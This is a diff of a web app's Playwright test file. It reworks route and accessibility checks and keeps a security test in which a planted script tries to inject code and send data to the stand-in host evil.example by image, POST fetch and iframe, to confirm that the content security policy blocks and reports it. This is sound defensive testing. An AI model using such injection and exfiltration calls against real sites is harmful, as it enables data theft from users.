@@ -1,10 +1,11 @@
-import { AxeBuilder } from '@axe-core/playwright';
 import type { Page } from 'playwright-core';
 import { describe, expect, test } from 'vitest';
-import { ROUTES } from '../web/src/app/manifest.ts';
+import { type AppRoute, ROUTES } from '../web/src/app/manifest.ts';
 import landing from '../web/src/i18n/en/landing.ts';
+import { faultsOf } from './axe.ts';
 import { Phone } from './browser.ts';
 import { takeBreaches } from './content-policy.ts';
+import { until } from './person.ts';
 import { stage } from './stage.ts';
 
 /** Every place of the app, opened as a person signed in finds it. */
@@ -33,7 +34,11 @@ async function go({ page, phone }: { page: Page; phone: Phone }, path: string): 
     },
     `${path}${BARE[path] ?? ''}`,
   );
-  await expect.poll(() => phone.paths.slice(before)).toContain(path);
+  await until(
+    `the app goes to ${path}`,
+    async () => phone.paths.slice(before),
+    (seen) => seen.includes(path),
+  );
   await page.locator('h1').first().waitFor();
 }
 
@@ -44,75 +49,98 @@ async function signedIn(colorScheme: 'dark' | 'light'): Promise<{ phone: Phone; 
   await page.waitForURL('**/index');
   await page.getByRole('navigation', { name: 'Main' }).waitFor();
   await page.locator('main h1').first().waitFor();
+  // A title that is just fading in has no contrast of its own yet.
+  await page.emulateMedia({ reducedMotion: 'reduce' });
   return { phone, page };
 }
 
-describe('the places of the app', () => {
-  test('all 176 routes open without an error, a broken content policy or an empty page', async () => {
+/**
+ * The page's accessibility faults. A screen that is still coming has no heading yet and links without words: a fault is
+ * what stays. Where a place leads on to another at once, it is that one that is looked at.
+ */
+async function look(page: Page, rules?: readonly string[]): Promise<string[]> {
+  let faults: string[] = [];
+  for (let looks = 0; looks < LOOKS; looks += 1) {
+    await page.locator('h1').first().waitFor();
+    const at = page.url();
+    faults = await faultsOf(page, rules);
+    if (faults.length === 0 && page.url() === at) return faults;
+    await page.waitForTimeout(LOOK_AGAIN_MS);
+  }
+  return faults;
+}
+
+const LOOKS = 10;
+const LOOK_AGAIN_MS = 300;
+
+const isScreen = ({ built, kind, path }: AppRoute) => built && kind === 'page' && path !== '/loadPage';
+
+// Both at once: one waits while the other is looked at.
+describe.concurrent('the places of the app', () => {
+  test('all 176 routes open without an error, a broken content policy or an empty page; screens have no accessibility fault', async () => {
     expect(ROUTES).toHaveLength(176);
     const { phone, page } = await signedIn('dark');
     const failed: string[] = [];
-    for (const { path } of ROUTES)
-      await go({ page, phone }, path).catch((error) => failed.push(`${path}: ${String(error).slice(0, 120)}`));
+    for (const route of ROUTES) {
+      const { path } = route;
+      try {
+        await go({ page, phone }, path);
+        if (isScreen(route)) failed.push(...(await look(page)).map((fault) => `${path} ${fault}`));
+      } catch (error) {
+        failed.push(`${path}: ${String(error).slice(0, 120)}`);
+      }
+    }
     expect(failed).toEqual([]);
     expect(phone.complaints).toEqual([]);
     await phone.close();
   });
 
-  test('what a planted script would do is held back, and would be noticed', async () => {
-    const phone = await Phone.open(here.browser, server.url);
-    const page = await phone.page('/loadPage');
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      try {
-        script.textContent = 'globalThis.planted = true';
-        document.head.append(script);
-      } catch {
-        // Trusted types: not even the text is taken.
-      }
-      new Image().src = 'https://evil.example/pixel.png';
-      void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/';
-      document.body.append(frame);
-    });
-    const broken = new Set<string | undefined>();
-    const noticed = () => {
-      for (const breach of takeBreaches()) broken.add(breach.split(' ')[1]);
-      return [...broken].sort();
-    };
-    await expect.poll(noticed).toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for']);
-    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
-    await phone.close();
-    takeBreaches();
-  });
-
-  test.for(['dark', 'light'] as const)('built screens have no accessibility fault, %s', async (scheme) => {
+  // The light theme has the same structure in other colours.
+  test('in the light, built screens can be read', async () => {
     const faults: string[] = [];
-    const look = async (page: Page, path: string): Promise<void> => {
-      // A title that is just fading in has no contrast of its own yet.
-      await page.emulateMedia({ reducedMotion: 'reduce' });
-      const at = page.url();
-      await page.locator('h1').first().waitFor();
-      const axe = new AxeBuilder({ page });
-      // The other theme has the same structure in other colours.
-      if (scheme === 'light') axe.withRules(['color-contrast']);
-      const { violations } = await axe.analyze();
-      // Some places lead on to another at once; what was seen on the way is neither of them.
-      if (page.url() !== at) return look(page, path);
-      for (const { id, nodes } of violations) faults.push(`${path} ${id}: ${nodes[0]?.html.slice(0, 140)}`);
-    };
     // Who is signed in is led on from the landing page.
-    const visitor = await Phone.open(here.browser, server.url, scheme);
-    await look(await visitor.page('/loadPage'), '/loadPage');
-    await visitor.close();
-    const { phone, page } = await signedIn(scheme);
-    for (const { path, built, kind } of ROUTES) {
-      if (!built || kind !== 'page' || path === '/loadPage') continue;
-      await go({ page, phone }, path);
-      await look(page, path);
+    for (const scheme of ['light', 'dark'] as const) {
+      const visitor = await Phone.open(here.browser, server.url, scheme);
+      const page = await visitor.page('/loadPage');
+      await page.emulateMedia({ reducedMotion: 'reduce' });
+      faults.push(...(await look(page)));
+      await visitor.close();
+    }
+    const { phone, page } = await signedIn('light');
+    for (const route of ROUTES.filter(isScreen)) {
+      await go({ page, phone }, route.path);
+      faults.push(...(await look(page, ['color-contrast'])).map((fault) => `${route.path} ${fault}`));
     }
     expect(faults).toEqual([]);
     await phone.close();
   });
+});
+
+// By itself: what is broken is counted for the whole browser.
+test('what a planted script would do is held back, and would be noticed', async () => {
+  const phone = await Phone.open(here.browser, server.url);
+  const page = await phone.page('/loadPage');
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    try {
+      script.textContent = 'globalThis.planted = true';
+      document.head.append(script);
+    } catch {
+      // Trusted types: not even the text is taken.
+    }
+    new Image().src = 'https://evil.example/pixel.png';
+    void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+  });
+  const broken = new Set<string | undefined>();
+  const noticed = () => {
+    for (const breach of takeBreaches()) broken.add(breach.split(' ')[1]);
+    return [...broken].sort();
+  };
+  await expect.poll(noticed).toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for']);
+  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
+  await phone.close();
+  takeBreaches();
 });
